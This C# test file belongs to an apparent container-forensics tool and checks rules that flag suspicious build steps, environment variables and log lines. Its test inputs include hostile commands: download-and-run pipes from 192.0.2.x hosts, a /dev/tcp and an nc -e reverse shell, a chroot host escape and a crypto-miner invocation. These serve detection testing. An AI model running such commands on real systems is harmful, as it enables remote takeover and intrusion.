using StoreForensics.Findings;
using StoreForensics.Findings.Rules;
using StoreForensics.Model;
using StoreForensics.Primitives;

namespace StoreForensics.Tests.Findings;

/// <summary>Texts that a rule is for, and texts that are nearly so.</summary>
[TestFixture]
internal sealed class TextRuleTests
{
    [TestCase("/bin/sh -c wget -q -O - http://192.0.2.44/setup.sh | sh", "command-download-run high")]
    [TestCase("/bin/sh -c curl -fsSL https://deb.example.org/setup_20.x | bash -", "command-download-run low")]
    [TestCase("/bin/sh -c wget http://192.0.2.9/x && chmod +x x && ./x", "command-download-run high")]
    [TestCase("/bin/sh -c curl -o /usr/local/bin/tool https://example.org/tool && chmod +x /usr/local/bin/tool", "")]
    [TestCase("/bin/sh -c echo aGk= | base64 -d > /usr/local/bin/healthd", "command-decode medium")]
    [TestCase("/bin/sh -c base64 /etc/hostname", "")]
    [TestCase("/bin/sh -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "command-reverse-shell critical")]
    [TestCase("/bin/sh -c nc -e /bin/sh 192.0.2.1 4444", "command-reverse-shell critical")]
    [TestCase("/bin/sh -c nc -z db 5432", "")]
    [TestCase("chroot /host sh -c id", "command-escape high")]
    [TestCase("chroot /var/empty nginx", "")]
    [TestCase("./xmrig -o stratum+tcp://pool.example:3333", "miner high")]
    [TestCase("/usr/bin/prometheus --config.file=/etc/prometheus.yml", "")]
    [TestCase("/bin/sh -c apt-get install -y nmap", "tunnel medium")]
    [TestCase("mysqld --password=hunter2", "secret-in-metadata medium")]
    [TestCase("|1 BUILD_TOKEN=abc /bin/sh -c make", "secret-in-metadata medium")]
    [TestCase("/bin/sh -c #(nop)  ENV A=b API_KEY='x y'", "secret-in-metadata medium")]
    [TestCase("/bin/sh -c curl -H token=$TOKEN", "")]
    [TestCase("/bin/sh -c export DB_PASSWORD_FILE=/run/secrets/db", "")]
    public void In_commands(string command, string expected) => Assert.That(Found(TextKind.BuildStep, command), Is.EqualTo(expected));

    [TestCase("LD_PRELOAD=/usr/lib/libx.so", "preload-variable high")]
    [TestCase("LD_PRELOAD=", "")]
    [TestCase("DB_PASSWORD=hunter2", "secret-in-metadata medium")]
    [TestCase("API_TOKEN=x", "secret-in-metadata medium")]
    [TestCase("GPG_KEY=A035C8C19219BA821ECEA86B64E628F8D684696D", "")]
    [TestCase("POSTGRES_PASSWORD_FILE=/run/secrets/pg", "")]
    [TestCase("PASSWORD=", "")]
    [TestCase("PATH=/usr/bin:/bin", "")]
    [TestCase("DB_PASS=x", "secret-in-metadata medium")]
    [TestCase("PIN=1234", "secret-in-metadata medium")]
    [TestCase("ENCRYPTION_KEY=abc", "secret-in-metadata medium")]
    [TestCase("APP_KEYSPACE=web", "")]
    [TestCase("TOKENIZERS_PARALLELISM=false", "")]
    [TestCase("MYSQL_ALLOW_EMPTY_PASSWORD=yes", "")]
    [TestCase("DB_PASSWORD=$DB_PASSWORD", "")]
    [TestCase("SSH_KEY_DIR=/etc/keys", "")]
    [TestCase("PWD=/srv", "")]
    [TestCase("SPINNER=dots", "")]
    [TestCase("XMRIG_POOL=stratum+tcp://pool.example:3333", "miner high")]
    public void In_variables(string variable, string expected) => Assert.That(Found(TextKind.Environment, variable), Is.EqualTo(expected));

    [TestCase("[2026] speed 10s/60s/15m 120.3 hashrate", "miner medium")]
    [TestCase("GET /mining-equipment.html 200", "")]
    public void In_logs(string line, string expected) => Assert.That(Found(TextKind.LogLine, line), Is.EqualTo(expected));

    /// <summary>All patterns run in linear time: a line made to make others backtrack ends as fast as any.</summary>
    [Test]
    public void A_line_that_is_meant_to_hang_does_not() =>
        Assert.That(Found(TextKind.BuildStep, string.Concat(Enumerable.Repeat("curl && chmod ; ", 200_000))), Is.Empty);

    private static string Found(TextKind kind, string text)
    {
        var sink = new FindingSink();
        var sight = new TextSight { Kind = kind, Subjects = ["x"], Text = text, Origin = new Origin("e", default) };
        foreach (ITextRule rule in RuleSet.Texts(RuleLibrary.BuiltIn.Patterns))
            rule.Look(sight, sink);
        return string.Join(", ", sink.Sorted().Select(f => $"{f.Rule} {f.Severity.Word()}"));
    }
}
